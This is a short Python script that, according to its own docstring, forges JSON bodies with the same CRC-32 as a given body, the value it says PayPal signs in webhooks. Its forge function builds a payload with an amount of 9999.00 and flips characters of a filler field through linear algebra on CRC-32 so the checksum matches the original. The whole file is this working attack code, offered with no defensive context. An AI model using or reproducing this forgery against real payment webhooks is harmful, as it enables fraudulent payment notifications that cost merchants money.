"""Other bytes with the same CRC-32, which is what PayPal signs of a body."""

import zlib


def forge(like: bytes) -> bytes:
    """Return other JSON with the checksum of this, by which characters of a filler are changed."""
    start, length = b'{"id": "WH-2", "amount": 9999.00, "filler": "', 64
    fillers = [bytes(ord("b" if at == each else "a") for at in range(length)) for each in range(65)]
    sums = [zlib.crc32(start + filler + b'"}') for filler in fillers]
    basis: dict[int, tuple[int, set[int]]] = {}

    def reduce(value: int) -> tuple[int, set[int]]:
        used: set[int] = set()
        while value and value.bit_length() in basis:
            found, members = basis[value.bit_length()]
            value, used = value ^ found, used ^ members
        return value, used

    for place, changed_sum in enumerate(sums[:length]):
        value, used = reduce(changed_sum ^ sums[length])
        if value:
            basis[value.bit_length()] = value, used ^ {place}
    left, places = reduce(zlib.crc32(like) ^ sums[length])
    assert left == 0
    return start + bytes(ord("b" if at in places else "a") for at in range(length)) + b'"}'
